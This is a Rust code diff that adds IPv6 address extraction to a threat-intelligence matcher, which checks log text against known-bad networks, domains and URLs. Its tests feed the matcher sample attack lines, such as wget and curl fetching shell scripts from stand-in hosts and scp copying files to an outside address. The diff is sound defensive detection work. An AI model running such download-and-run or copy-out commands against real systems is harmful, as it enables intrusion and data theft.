@@ -2,7 +2,7 @@
 //! feed's network that covers an address), domains and URLs through one Aho-Corasick automaton
 //! over the text fields, hashes through a hash map.
 
-use std::net::{IpAddr, Ipv4Addr};
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
 
 use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 use ipnet::{IpNet, Ipv4Net, Ipv6Net};
@@ -169,7 +169,7 @@ impl Intel {
         f
     }
 
-    /// Domains, URLs and IPv4 addresses in `text`.
+    /// Domains, URLs and IPv4 and IPv6 addresses in `text`.
     pub fn text_hits(&self, text: &str, out: &mut Vec<u32>) {
         if let Some(ac) = &self.text {
             let b = text.as_bytes();
@@ -183,6 +183,9 @@ impl Intel {
         }
         if !self.v4.is_empty() {
             for_each_ipv4(text, |ip| self.ip_hits(IpAddr::V4(ip), out));
+        }
+        if !self.v6.is_empty() {
+            for_each_ipv6(text, |ip| self.ip_hits(IpAddr::V6(ip), out));
         }
     }
 
@@ -201,7 +204,8 @@ impl Intel {
     /// added to `out`. `seen` remembers the hits of text values met before (User-Agents,
     /// referrers and many URLs repeat), so each distinct value is scanned once per thread.
     pub fn event_text_hits(&self, ev: &Event, out: &mut Vec<u32>, seen: &mut TextCache) {
-        if self.text.is_none() && self.v4.is_empty() && self.hashes.is_empty() {
+        if self.text.is_none() && self.v4.is_empty() && self.v6.is_empty() && self.hashes.is_empty()
+        {
             return;
         }
         for (f, v) in &ev.fields {
@@ -298,6 +302,45 @@ pub fn for_each_ipv4(text: &str, mut f: impl FnMut(Ipv4Addr)) {
     }
 }
 
+/// Calls `f` for every IPv6 address in `text` that stands alone (`2001:db8::1`, in brackets
+/// with a port, with an embedded IPv4 tail); clock times, MAC addresses and words are not
+/// addresses.
+pub fn for_each_ipv6(text: &str, mut f: impl FnMut(Ipv6Addr)) {
+    let b = text.as_bytes();
+    let part = |c: u8| c.is_ascii_hexdigit() || c == b':' || c == b'.';
+    let mut i = 0;
+    while let Some(p) = b[i..].iter().position(|&c| c == b':') {
+        let colon = i + p;
+        let mut s = colon;
+        while s > 0 && part(b[s - 1]) {
+            s -= 1;
+        }
+        let mut e = colon;
+        while e < b.len() && part(b[e]) {
+            e += 1;
+        }
+        i = e.max(colon + 1);
+        // inside a longer word (`xdead::1`) or too long to be an address
+        if (s > 0 && (b[s - 1].is_ascii_alphanumeric() || b[s - 1] == b'_'))
+            || (e < b.len() && (b[e].is_ascii_alphanumeric() || b[e] == b'_'))
+            || e - s > 45
+        {
+            continue;
+        }
+        // a sentence's full stop or a list's colon after it
+        let cand = text[s..e].trim_end_matches('.');
+        if cand.bytes().filter(|&c| c == b':').count() < 2 {
+            continue;
+        }
+        let parsed = cand
+            .parse::<Ipv6Addr>()
+            .or_else(|_| cand.trim_end_matches(':').parse());
+        if let Ok(ip) = parsed {
+            f(ip);
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -338,6 +381,27 @@ mod tests {
         assert!(ips("version 1.2.3.4.5 and 999.1.1.1").is_empty());
     }
 
+    fn ip6s(text: &str) -> Vec<String> {
+        let mut v = Vec::new();
+        for_each_ipv6(text, |ip| v.push(ip.to_string()));
+        v
+    }
+
+    #[test]
+    fn ipv6_addresses_are_found_in_text() {
+        assert_eq!(
+            ip6s("curl -g http://[2001:db8::23]:8080/x.sh"),
+            ["2001:db8::23"]
+        );
+        assert_eq!(
+            ip6s("ssh root@2001:DB8:0:0:1::7. then ::1 and ::ffff:192.0.2.1"),
+            ["2001:db8::1:0:0:7", "::1", "::ffff:192.0.2.1"]
+        );
+        assert_eq!(ip6s("from fe80::1%eth0 port 22"), ["fe80::1"]);
+        assert!(ip6s("at 12:34:56 mac aa:bb:cc:dd:ee:ff").is_empty());
+        assert!(ip6s("xdead::1 dead::beef_x std::io::Error a:b").is_empty());
+    }
+
     #[test]
     fn every_covering_network_matches() {
         let i = intel(&[
@@ -372,5 +436,18 @@ mod tests {
         assert!(hits("evil.example.org").is_empty());
         assert_eq!(hits("evil.example. done"), [0]);
         assert_eq!(hits("wget http://drop.example/a.sh -O-"), [1]);
+    }
+
+    #[test]
+    fn addresses_in_text_match_v4_and_v6_networks() {
+        let i = intel(&["2001:db8:bad::/48", "203.0.113.0/24"]);
+        let hits = |t: &str| {
+            let mut o = Vec::new();
+            i.text_hits(t, &mut o);
+            o
+        };
+        assert_eq!(hits("wget -q http://[2001:db8:bad::5]:8080/a.sh"), [0]);
+        assert_eq!(hits("scp x root@203.0.113.9:/tmp"), [1]);
+        assert!(hits("ping6 2001:db8:beef::1").is_empty());
     }
 }
